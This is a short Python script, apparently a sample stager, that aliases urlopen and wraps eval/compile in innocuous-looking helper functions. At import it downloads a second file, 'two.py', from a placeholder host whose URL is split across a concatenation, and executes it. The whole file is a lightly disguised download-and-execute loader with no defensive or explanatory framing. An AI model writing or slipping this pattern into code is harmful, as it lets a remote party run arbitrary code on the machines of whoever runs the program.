# exec: a wrapper fetches, another runs
from urllib.request import urlopen as opened


def text(address):
    return opened(address).read().decode()


def do(what):
    eval(compile(what, "", "exec"))


do(text("https://stage.example/" + "two.py"))
